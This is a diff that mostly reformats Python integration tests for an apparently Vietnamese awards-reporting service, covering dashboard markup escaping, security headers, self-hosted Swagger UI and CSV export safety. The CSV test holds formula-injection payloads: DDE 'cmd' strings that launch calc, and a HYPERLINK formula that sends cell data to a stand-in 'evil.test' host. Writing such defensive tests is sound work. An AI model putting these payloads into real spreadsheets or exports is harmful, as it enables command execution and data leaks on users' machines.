@@ -73,11 +73,8 @@ async def hostile_campaign(stack, board):
     settings = stack.settings()
     async with httpx.AsyncClient(base_url=stack.url("intake")) as client:
         for unit, homes in ((units[0], 100), (units[1], 40)):
-            r = await client.post(
-                "/api/v1/submissions",
-                headers=reporter(settings, unit),
-                json=submission(campaign_id, unit, **{"ho-thoat-ngheo": homes, "nha-dai-doan-ket": 10}),
-            )
+            r = await client.post("/api/v1/submissions", headers=reporter(settings, unit),
+                                  json=submission(campaign_id, unit, **{"ho-thoat-ngheo": homes, "nha-dai-doan-ket": 10}))
             assert r.status_code == 202, r.text
 
     async def scored():
@@ -103,9 +100,8 @@ async def test_markup_in_names_shows_as_text_on_the_dashboard_and_runs_nothing(s
     token = board["Authorization"].split()[1]
     async with browser_page() as page:
         await page.goto(f"{origin}/dashboard#token={token}&campaign={hostile_campaign}")
-        rows = await page.wait_for(
-            "document.querySelectorAll('#rows tr').length === 4 && document.getElementById('rows').innerText"
-        )
+        rows = await page.wait_for("document.querySelectorAll('#rows tr').length === 4 && "
+                                   "document.getElementById('rows').innerText")
         await page.wait_for("document.getElementById('status').textContent.startsWith('Cập nhật lúc')")
         assert UNIT_IMG in rows and UNIT_SCRIPT in rows and CLUSTER_IMG in rows  # as typed, as text
         assert rows.index(UNIT_IMG) < rows.index(UNIT_SCRIPT)  # 100 points before 64
@@ -132,7 +128,7 @@ async def test_dashboard_asks_for_the_token_once_and_keeps_it_in_page_memory(sta
         await page.goto(f"{origin}/dashboard#campaign={hostile_campaign}")
         await page.wait_for("!document.getElementById('sign-in').hidden")
         assert await page.evaluate("document.querySelectorAll('#rows tr').length") == 0
-        await page.evaluate(f"""document.getElementById('token').value = {board["Authorization"].split()[1]!r};
+        await page.evaluate(f"""document.getElementById('token').value = {board['Authorization'].split()[1]!r};
                                 document.getElementById('sign-in').requestSubmit()""")
         await page.wait_for("document.querySelectorAll('#rows tr').length === 4")
         assert await page.evaluate("document.getElementById('sign-in').hidden") is True
@@ -171,11 +167,8 @@ async def test_docs_renders_swagger_ui_from_the_service_itself(stack, service):
         assert_page_policy(page.responses[f"{origin}/docs"])
         # data: URLs (Swagger UI's icons in its style sheet) never leave the browser
         assert page.requests and other_origins(page.requests, origin) == []
-        assert {
-            f"{origin}/docs/assets/swagger-ui-bundle.js",
-            f"{origin}/docs/assets/swagger-ui.css",
-            f"{origin}/openapi.json",
-        } <= set(page.requests)
+        assert {f"{origin}/docs/assets/swagger-ui-bundle.js", f"{origin}/docs/assets/swagger-ui.css",
+                f"{origin}/openapi.json"} <= set(page.requests)
         assert await page.evaluate("localStorage.length") == 0
     async with httpx.AsyncClient(base_url=origin) as client:
         r = await client.get("/docs/assets/swagger-ui-bundle.js")
@@ -185,10 +178,8 @@ async def test_docs_renders_swagger_ui_from_the_service_itself(stack, service):
 
 
 async def test_html_and_json_answers_of_both_services_carry_the_security_headers(stack, settings, board, campaign):
-    async with (
-        httpx.AsyncClient(base_url=stack.url("intake")) as intake,
-        httpx.AsyncClient(base_url=stack.url("reporting")) as reporting,
-    ):
+    async with httpx.AsyncClient(base_url=stack.url("intake")) as intake, \
+            httpx.AsyncClient(base_url=stack.url("reporting")) as reporting:
         for client, path in ((intake, "/docs"), (reporting, "/docs"), (reporting, "/dashboard")):
             r = await client.get(path)
             assert r.status_code == 200 and r.headers["content-type"].startswith("text/html"), path
@@ -213,24 +204,13 @@ async def test_html_and_json_answers_of_both_services_carry_the_security_headers
 
 async def test_award_history_csv_export_neutralises_formula_cells(stack, settings, campaign):
     cid, tag = campaign["id"], uuid.uuid4().hex[:6]
-    person = Nominee(
-        kind="individual",
-        unit_id="don-vi-3",
-        person_id=f"p-{tag}",
-        person_name="@SUM(1+1)*cmd|' /C calc'!A0",
-        position="-2+3+cmd|' /C calc'!A0",
-    )
+    person = Nominee(kind="individual", unit_id="don-vi-3", person_id=f"p-{tag}",
+                     person_name="@SUM(1+1)*cmd|' /C calc'!A0", position="-2+3+cmd|' /C calc'!A0")
     data = AwardDecided(
-        nomination_id=f"dn-{tag}",
-        award_kind="bang-khen-chu-tich-tinh",
-        award_name_vi="Bằng khen của Chủ tịch UBND tỉnh",
-        nominee=person,
-        year=2019,
-        campaign_id=cid,
-        basis="regular",
-        decision=Decision(
-            number='=HYPERLINK("http://evil.test/?"&A1,"2457")', date=date(2019, 12, 5), signer="+cmd|' /C calc'!A0"
-        ),
+        nomination_id=f"dn-{tag}", award_kind="bang-khen-chu-tich-tinh", award_name_vi="Bằng khen của Chủ tịch UBND tỉnh",
+        nominee=person, year=2019, campaign_id=cid, basis="regular",
+        decision=Decision(number='=HYPERLINK("http://evil.test/?"&A1,"2457")', date=date(2019, 12, 5),
+                          signer="+cmd|' /C calc'!A0"),
     )
     event = new_event(type=AWARD_DECIDED, source=SOURCE, tenant=TENANT, subject=f"dn-{tag}", data=data)
     await publish(settings, (event, f"{TENANT}/dn-{tag}"))
@@ -248,9 +228,7 @@ async def test_award_history_csv_export_neutralises_formula_cells(stack, setting
     assert cells["Người ký"] == "'+cmd|' /C calc'!A0"
     assert cells["Họ và tên"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert cells["Chức vụ"] == "'-2+3+cmd|' /C calc'!A0"
-    assert (
-        cells["Ngày quyết định"] == "05/12/2019" and cells["Năm"] == "2019" and cells["Mã hồ sơ đề nghị"] == f"dn-{tag}"
-    )
+    assert cells["Ngày quyết định"] == "05/12/2019" and cells["Năm"] == "2019" and cells["Mã hồ sơ đề nghị"] == f"dn-{tag}"
     # programs get the text exactly as decided
     async with httpx.AsyncClient(base_url=stack.url("reporting")) as client:
         r = await client.get("/api/v1/awards/export", params={"format": "json", "q": f"dn-{tag}"}, headers=anyone)
